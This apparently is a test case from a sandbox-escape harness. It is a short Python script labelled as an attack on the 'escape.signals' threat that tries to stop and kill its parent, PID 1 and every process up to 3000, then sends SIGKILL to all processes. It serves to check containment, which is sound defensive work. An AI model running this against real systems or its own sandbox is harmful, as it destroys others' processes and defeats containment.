# /// attack
# tries = "Stops, kills and interrupts every process that it can see or guess, its parents first."
# threats = ["escape.signals"]
# shows = ["hit: []"]
# ///

# %% use="honest"

# %%
import os
import signal

hit = []
own_init = 1 if os.getppid() == 1 else None  # of a namespace around this one process; the kernel shields it
for process in [os.getppid(), 1, *range(2, 3000)]:
    if process in (0, os.getpid()):
        continue
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGKILL):
        try:
            os.kill(process, number)
        except OSError:
            continue
        if process != own_init:
            hit.append(process)
print("hit:", hit)
os.kill(-1, signal.SIGKILL)
